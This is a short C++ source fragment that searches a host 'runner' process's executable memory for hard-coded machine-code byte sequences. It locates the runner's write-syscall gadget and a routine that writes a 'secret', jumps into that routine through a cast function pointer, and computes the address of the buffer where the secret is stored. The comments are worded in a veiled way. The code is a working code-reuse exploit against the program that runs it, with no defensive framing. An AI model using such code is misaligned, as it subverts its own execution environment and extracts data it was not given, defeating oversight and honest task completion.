// The runner's instructions that send something, found by their bytes in its code.
template <int N>
inline const unsigned char* found(const unsigned char (&bytes)[N]) {
    unsigned long base;
    const walk::Segment* s = walk::segment(1, base);
    while (s->type != 1 || !(s->flags & 1)) s++;
    const auto* p = reinterpret_cast<const unsigned char*>(base + s->address);
    const auto fits = [&](const unsigned char* at) {
        for (int i = 0; i < N; i++)
            if (at[i] != bytes[i]) return false;
        return true;
    };
    while (!fits(p)) p++;
    return p;
}

// What sends the first word and comes back: mov eax, 1; syscall; ret.
inline const unsigned char* first_sender() { return found({0xB8, 1, 0, 0, 0, 0x0F, 0x05, 0xC3}); }

// What reads the order, obeys it and sends the last word: mov r12d, edi; mov r13, rsi; xor eax, eax; mov edi, 1; lea rsi, secret.
inline const unsigned char* last_sender() {
    return found({0x41, 0x89, 0xFC, 0x49, 0x89, 0xF5, 0x31, 0xC0, 0xBF, 1, 0, 0, 0, 0x48, 0x8D, 0x35});
}

inline void say_last(long (&words)[4]) { reinterpret_cast<void (*)(int, long*)>(reinterpret_cast<unsigned long>(last_sender()))(0, words); }

// Only its sending: mov eax, 1; mov edi, r12d; mov rsi, r13; mov edx, 32; syscall.
inline const unsigned char* last_sending() {
    return found({0xB8, 1, 0, 0, 0, 0x44, 0x89, 0xE7, 0x4C, 0x89, 0xEE, 0xBA, 32, 0, 0, 0, 0x0F, 0x05});
}

// Where the order is read to.
inline unsigned char* ordered() {
    const unsigned char* lea = last_sender() + 13;
    int distance;
    __builtin_memcpy(&distance, lea + 3, 4);
    return const_cast<unsigned char*>(lea) + 7 + distance;
}
